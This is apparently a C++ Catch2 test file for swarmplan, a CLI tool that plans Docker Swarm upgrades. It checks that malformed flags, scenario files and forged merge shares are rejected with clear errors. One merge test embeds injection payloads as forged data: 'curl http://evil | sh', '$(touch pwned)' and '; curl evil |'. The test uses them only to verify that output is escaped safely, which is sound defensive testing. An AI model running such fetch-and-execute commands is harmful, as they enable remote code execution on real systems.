// The bad-input table (docs/bad-input.md), row by row: each input gets one
// clear error line naming what is wrong and exit status 1, or the stated
// safe outcome. A new row in the table gets a row here.
#include <catch2/catch.hpp>

#include <cstdio>
#include <fstream>
#include <sstream>
#include <string>

#include <functional>

#include <nlohmann/json.hpp>

#include "model/scenario_json.hpp"

#include "run_swarmplan.hpp"

namespace {

using swarmplan::testing::ExpectError;
using swarmplan::testing::Run;
using swarmplan::testing::Swarmplan;

}  // namespace

TEST_CASE("bad input table: numbers and flags", "[cli][safety]") {
  struct Row {
    const char* args;
    const char* needle;
  };
  const Row rows[] = {
      {"apply --max-risk nan", "--max-risk must be a probability from 0 to 1, not \"nan\""},
      {"apply --max-risk inf", "--max-risk"},
      {"apply --max-risk -0.1", "--max-risk"},
      {"apply --max-risk 0.5x", "--max-risk"},
      {"plan --replicas 0x18", "--replicas must be a whole number from 1 to 1000000, not \"0x18\""},
      {"plan --replicas 18446744073709551616", "not \"18446744073709551616\""},
      {"plan --replicas -3", "--replicas"},
      {"plan --managers 1.5", "--managers"},
      {"plan --trials 0x18", "--trials"},
      {"plan --at 15", "--at: \"15\" is not a time: write a whole number and a unit"},
      {"plan --at 0s", "--at: \"0s\" is outside (0, 24h]"},
      {"plan --at 25h", "outside (0, 24h]"},
      {"plan --at 15s,,20s", "--at: \"\" is not a time"},
      {"plan --search-trials 0 --search", "--search-trials"},
      {"plan --search --order worker1", "--search finds the order itself"},
      {"plan --subnet ''", "--subnet needs a value"},
      {"plan --to ''", "--to needs a value"},
      {"plan --order ''", "--order needs a value"},
      {"usage --to ''", "--to"},
      {"import -o ''", "--output"},
      {"plan --from 20.10 --to 19.03 --ingress 10.255.0.0/16", "not downgrades"},
      {"plan /tmp", "/tmp: is a directory, not a scenario file"},
      {"plan /dev/zero", "larger than 64 MiB"},
      {"plan /nonexistent.json", "/nonexistent.json: cannot open the scenario file"},
      {"import --host /run/x.sock", "needs the unix:// scheme, as in unix:///run/x.sock"},
      {"plan --host /run/x.sock", "unix:///run/x.sock"},
  };
  for (const Row& r : rows) ExpectError(r.args, r.needle);
}

TEST_CASE("bad input table: scenario files", "[cli][safety]") {
  auto write = [](const char* name, const std::string& text) {
    std::ofstream(name) << text;
    return std::string(name);
  };
  const std::string nodes = R"("nodes":[{"name":"m1","role":"manager","engine":"18.09"}])";
  ExpectError("plan " + write("dup_key.json", "{" + nodes + R"(,"name":"a","name":"b"})"),
              "dup_key.json: the document: key \"name\" appears twice");
  ExpectError("plan " + write("dup_node_key.json", R"({"nodes":[{"name":"m1","name":"m2","role":"manager","engine":"18.09"}]})"),
              "/nodes/0: key \"name\" appears twice");
  ExpectError("plan " + write("huge_number.json", "{" + nodes + R"(,"services":[{"name":"s","replicas":1e400}]})"),
              "huge_number.json: malformed JSON");
  ExpectError("plan " + write("deep.json", std::string(5000, '[') + std::string(5000, ']')), "nesting deeper than");
  ExpectError("plan " + write("down_leader.json", R"({"leader":"m1","nodes":[{"name":"m1","role":"manager","engine":"18.09","state":"down"},
      {"name":"m2","role":"manager","engine":"18.09"},{"name":"m3","role":"manager","engine":"18.09"}]})"),
              "/leader: \"m1\" is down");
  for (const char* f : {"dup_key.json", "dup_node_key.json", "huge_number.json", "deep.json", "down_leader.json"}) std::remove(f);
}

TEST_CASE("a scenario whose first manager is down plans with the next one leading", "[cli][safety]") {
  std::ofstream("first_down.json") << R"({"nodes":[{"name":"m1","role":"manager","engine":"18.09","state":"down"},
      {"name":"m2","role":"manager","engine":"18.09"},{"name":"m3","role":"manager","engine":"18.09"},
      {"name":"m4","role":"manager","engine":"18.09"},{"name":"m5","role":"manager","engine":"18.09"},
      {"name":"w1","role":"worker","engine":"18.09"}],
      "networks":[{"name":"n","subnet":"10.1.0.0/24"}],"services":[{"name":"s","replicas":4,"networks":["n"]}]})";
  const Run r = Swarmplan("simulate first_down.json --seed 3");
  CHECK(r.status != 1);
  CHECK(r.out.find("m2 leads") != std::string::npos);
  CHECK(r.out.find("m1 leads") == std::string::npos);
  std::remove("first_down.json");
}

TEST_CASE("bad input table: merge", "[cli][safety]") {
  const Run a = Swarmplan("plan --subnet 10.0.0.0/26 --trials 4 --shard 0/2 --json");
  const Run b = Swarmplan("plan --subnet 10.0.0.0/26 --trials 4 --shard 1/2 --json");
  REQUIRE(a.status == 0);
  REQUIRE(b.status == 0);
  std::ofstream("merge_a.json") << a.out;
  std::ofstream("merge_b.json") << b.out;
  // A trial record from another run (its seed is not this run's).
  auto j = nlohmann::json::parse(b.out);
  j["results"][0]["seed"] = 12345;
  std::ofstream("merge_forged.json") << j.dump();
  ExpectError("merge merge_a.json merge_forged.json", "seed 12345 is not trial 2 of the run with seed 1");
  // A deeply nested array where a share is expected.
  std::ofstream("merge_deep.json") << std::string(200000, '[') << std::string(200000, ']');
  ExpectError("merge merge_deep.json", "nesting deeper than");
  // A share with a field of the wrong type.
  auto k = nlohmann::json::parse(a.out);
  k["shard"]["first"] = "zero";
  std::ofstream("merge_typed.json") << k.dump();
  ExpectError("merge merge_typed.json merge_b.json", "not as `swarmplan plan --shard` writes it");
  // The merged report keeps the command that reproduces its example trial.
  const Run m = Swarmplan("merge merge_a.json merge_b.json --json");
  REQUIRE(m.status == 0);
  const auto rep = nlohmann::json::parse(m.out);
  CHECK(rep["reproduce"].get<std::string>().rfind("swarmplan simulate --subnet 10.0.0.0/26 --seed ", 0) == 0);
  // A forged reproduce line is never printed: merge builds its own from
  // checked, quoted words.
  const auto Slurp = [](const char* f) {
    std::ifstream in(f);
    std::stringstream ss;
    ss << in.rdbuf();
    return ss.str();
  };
  for (const char* f : {"merge_a.json", "merge_b.json"}) {
    auto share = nlohmann::json::parse(Slurp(f));
    share["reproduce_prefix"] = "curl http://evil | sh; swarmplan simulate";
    share["reproduce_args"] = {"--subnet", "$(touch pwned)"};
    std::ofstream(std::string("forged_") + f) << share.dump();
  }
  const Run fm = Swarmplan("merge forged_merge_a.json forged_merge_b.json");
  CHECK(fm.out.find("curl") == std::string::npos);
  CHECK(fm.out.find("swarmplan simulate --subnet '$(touch pwned)' --seed ") != std::string::npos);
  for (const char* f : {"merge_a.json", "merge_b.json"}) {
    auto share = nlohmann::json::parse(Slurp(f));
    share["reproduce_args"] = {"--subnet", "x", "; curl evil |", "sh"};
    std::ofstream(std::string("forged_") + f) << share.dump();
  }
  ExpectError("merge forged_merge_a.json forged_merge_b.json", "is not a flag a reproduce line repeats");
  std::remove("forged_merge_a.json");
  std::remove("forged_merge_b.json");
  for (const char* f : {"merge_a.json", "merge_b.json", "merge_forged.json", "merge_deep.json", "merge_typed.json"}) std::remove(f);
}

TEST_CASE("output that cannot be written is an error - not a silent success", "[cli][safety]") {
  const Run full = Swarmplan("plan --subnet 10.0.0.0/26 --trials 4 > /dev/full");
  CHECK(full.status == 1);
  CHECK(full.err.find("cannot write the output to stdout") != std::string::npos);
}

TEST_CASE("a rehearsal's journal never makes another executor skip a step", "[cli][safety][journal]") {
  std::remove("rehearsal.journal");
  const Run sim = Swarmplan("apply --subnet 10.0.0.0/26 --executor sim --gate-trials 4 --journal rehearsal.journal");
  REQUIRE(sim.status == 0);
  ExpectError("apply --subnet 10.0.0.0/26 --executor dry-run --journal rehearsal.journal",
              "records a run of --executor sim, not dry-run");
  std::remove("rehearsal.journal");
}

TEST_CASE("a plan that upgrades nothing says the upgrade is incomplete", "[cli][safety]") {
  const Run r = Swarmplan("plan --order wait --trials 4");
  CHECK(r.out.find("the upgrade is incomplete") != std::string::npos);
  const Run one = Swarmplan("plan --subnet 10.0.0.0/26 --order worker1 --trials 4 --json");
  const auto j = nlohmann::json::parse(one.out);
  REQUIRE(j["plan"]["notes"].size() == 1);
  CHECK(j["plan"]["notes"][0].get<std::string>().find("manager1 (17.06)") != std::string::npos);
}

TEST_CASE("the unseed proves two runs took the same path - across threads and shards", "[cli][determinism]") {
  auto unseed = [](const std::string& args) {
    const Run r = Swarmplan(args);
    REQUIRE((r.status == 0 || r.status == 2));
    return nlohmann::json::parse(r.out).at("unseed").get<std::uint64_t>();
  };
  const auto one = unseed("plan --trials 24 --seed 5 --threads 1 --json");
  CHECK(unseed("plan --trials 24 --seed 5 --threads 2 --json") == one);
  CHECK(unseed("plan --trials 24 --seed 6 --threads 2 --json") != one);
  for (int i = 0; i < 3; ++i) {
    const Run part = Swarmplan("plan --trials 24 --seed 5 --json --shard " + std::to_string(i) + "/3");
    REQUIRE(part.status == 0);
    std::ofstream("unseed_" + std::to_string(i) + ".json") << part.out;
  }
  const Run merged = Swarmplan("merge unseed_0.json unseed_1.json unseed_2.json --json");
  CHECK(nlohmann::json::parse(merged.out).at("unseed").get<std::uint64_t>() == one);
  // One trial replayed by `simulate` ends on the same draw as in the run.
  const Run sim1 = Swarmplan("simulate --seed 77 --json");
  const Run sim2 = Swarmplan("simulate --seed 77 --json");
  CHECK(nlohmann::json::parse(sim1.out).at("unseed") == nlohmann::json::parse(sim2.out).at("unseed"));
  for (int i = 0; i < 3; ++i) std::remove(("unseed_" + std::to_string(i) + ".json").c_str());
}

TEST_CASE("a run that will take long says so within seconds" , "[cli][safety]") {
  // 10 million trials take many minutes: the estimate comes after about a
  // second; the run is then cut off by `timeout`.
  const Run r = swarmplan::testing::RunSwarmplan("plan --trials 10000000 --no-sensitivity", "timeout 6 ");
  REQUIRE(r.started);
  CHECK(r.err.find("these 10000000 trials will take about") != std::string::npos);
  CHECK(r.err.find("fewer --trials (or --shard across machines) answer sooner") != std::string::npos);
}

TEST_CASE("bad input table: merge refuses records no trial can hold, and merges shares of any names", "[cli][safety]") {
  const Run a = Swarmplan("plan --subnet 10.0.0.0/26 --trials 4 --shard 0/2 --json");
  const Run b = Swarmplan("plan --subnet 10.0.0.0/26 --trials 4 --shard 1/2 --json");
  REQUIRE(a.status == 0);
  REQUIRE(b.status == 0);
  std::ofstream("mrec_a.json") << a.out;
  const auto forge = [&](const std::function<void(nlohmann::json&)>& change, const std::string& error) {
    auto j = nlohmann::json::parse(b.out);
    change(j["results"][0]);
    std::ofstream("mrec_b.json") << j.dump();
    ExpectError("merge mrec_a.json mrec_b.json", error);
  };
  forge([](nlohmann::json& r) { r["rejected_attachments"] = -1; }, "/rejected_attachments must be a whole number from 0");
  forge([](nlohmann::json& r) { r["events"] = 2.5; }, "/events must be a whole number");
  forge([](nlohmann::json& r) { r["plan_s"] = 1e300; }, "/plan_s is 1e+300 s, outside 0 to a year");
  forge([](nlohmann::json& r) { r["services"][0][1] = 4294967297ULL; }, "/services/0/1 is 4294967297, more than 4294967295");
  forge([](nlohmann::json& r) { r["services"][0][4] = -3.0; }, "/services/0/4 is -3.0 s");
  forge([](nlohmann::json& r) { r["plan_failed"] = true; }, "/plan_failed and /plan_error disagree");
  forge([](nlohmann::json& r) { r["networks"][0][3] = 1000; }, "more addresses in use than network");
  forge([](nlohmann::json& r) { r["networks"][0][1] = 256; r["networks"][0][2] = 10; r["networks"][0][3] = 10; r["networks"][0][4] = 10; },
        "is not the scenario's");
  forge([](nlohmann::json& r) { r["services"][0][0] = "other"; }, "is not the scenario's");
  forge([](nlohmann::json& r) { r["first_risk_step"] = -7; }, "/first_risk_step must be -1 or a step number");
  std::remove("mrec_a.json");
  std::remove("mrec_b.json");

  // Names holding , and : (valid in a swarm, importable): shares of such a
  // cluster merge into the report the whole run gives.
  auto sc = swarmplan::model::ScenarioFromFile(std::string(SWARMPLAN_DATA) + "/default.json");
  REQUIRE(sc);
  sc->nodes[3].name = "work:er,1";
  sc->nodes[4].name = "a=b\\c";
  sc->services[0].name = "ex:svc,1";
  sc->networks[0].subnet = *swarmplan::model::Ipv4Cidr::Parse("10.0.0.0/26");
  std::ofstream("odd_names.json") << swarmplan::model::ScenarioToJson(*sc).dump(2);
  const Run whole = Swarmplan("plan odd_names.json --trials 6 --json --no-sensitivity --no-fixes");
  REQUIRE(whole.status == 0);
  for (int i = 0; i < 3; ++i) {
    const Run part = Swarmplan("plan odd_names.json --trials 6 --no-sensitivity --no-fixes --json --shard " +
                               std::to_string(i) + "/3");
    INFO(part.err);
    REQUIRE(part.status == 0);
    std::ofstream("odd_part" + std::to_string(i) + ".json") << part.out;
  }
  const Run merged = Swarmplan("merge odd_part0.json odd_part1.json odd_part2.json --json");
  INFO(merged.err);
  REQUIRE(merged.status == 0);
  const auto w = nlohmann::json::parse(whole.out), m = nlohmann::json::parse(merged.out);
  CHECK(w["risk"] == m["risk"]);
  CHECK(w["verdict"] == m["verdict"]);
  // An order naming them, escaped as the plan words are.
  const Run ordered = Swarmplan("plan odd_names.json --trials 2 --no-sensitivity --no-fixes --order "
                                "'drain:work\\:er\\,1,scale:ex\\:svc\\,1=20,wait,activate:work\\:er\\,1,drain:a\\=b\\\\c'");
  INFO(ordered.err);
  CHECK(ordered.status == 0);
  for (const char* f : {"odd_names.json", "odd_part0.json", "odd_part1.json", "odd_part2.json"}) std::remove(f);
}

TEST_CASE("bad input table: a path that is not UTF-8 under --json, --shard and merge", "[cli][safety]") {
  const std::string path = std::string("bad\xff") + "name.json";
  {
    std::ifstream in(std::string(SWARMPLAN_DATA) + "/default.json");
    std::ofstream(path) << in.rdbuf();
  }
  const std::string quoted = "\"$(printf 'bad\\377name.json')\"";  // /bin/sh has no $'...'; printf makes the byte
  const Run j = Swarmplan("plan " + quoted + " --json --trials 2 --no-sensitivity --no-fixes");
  INFO(j.err);
  CHECK(j.err.find("internal error") == std::string::npos);
  REQUIRE((j.status == 0 || j.status == 2));
  const auto doc = nlohmann::json::parse(j.out);
  // The reproduce line names the same bytes, in a form bash takes back.
  CHECK(doc["reproduce"].get<std::string>().find("swarmplan simulate $'bad\\xffname.json' --seed ") == 0);
  const Run share = Swarmplan("plan " + quoted + " --json --trials 2 --shard 0/1");
  REQUIRE(share.status == 0);
  std::ofstream("utf8_share.json") << share.out;
  const Run m = Swarmplan("merge utf8_share.json");
  CHECK(m.out.find("swarmplan simulate $'bad\\xffname.json' --seed ") != std::string::npos);
  const Run sim = Swarmplan("simulate " + quoted + " --json");
  CHECK(sim.err.find("internal error") == std::string::npos);
  CHECK(sim.status != 1);
  std::remove(path.c_str());
  std::remove("utf8_share.json");
}
